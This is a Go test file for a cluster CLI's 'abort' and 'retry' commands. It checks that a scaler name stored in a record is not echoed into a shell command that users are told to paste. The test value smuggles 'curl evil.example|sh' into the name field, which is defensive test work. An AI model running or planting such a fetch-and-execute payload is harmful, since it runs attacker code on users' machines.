package command

import (
	"strings"
	"testing"

	"drydock.dev/shared/api"
	"drydock.dev/test/kit/build"
)

// TestNameInARecordIsNoCommand: a user pastes the suggested command into a shell.
func TestNameInARecordIsNoCommand(t *testing.T) {
	for _, phase := range []api.Phase{api.PreScaling, api.Failed} {
		doc := &api.Scale{Scaler: api.ScalerRef{Name: "web; curl evil.example|sh #", UID: "uid-x"}, Header: api.Header{Version: api.RecordVersion,
			Operation: build.ID, Kind: api.KindScale, Phase: phase, Request: "2", Attempt: 1, Set: api.SetRef{Name: "web", UID: "uid-web"}}}
		for _, args := range []string{"abort sts/web --yes", "retry sts/web"} {
			c := newCluster(t, build.Set("web", build.Annotation(api.ScaleAnnotation, doc.Encode())))
			out, err := c.run(t, strings.Fields(args)...)
			if err != nil {
				out += ErrorText(err)
			}
			if strings.Contains(out, " web; curl") {
				t.Errorf("%s: %s", args, out)
			}
		}
	}
}
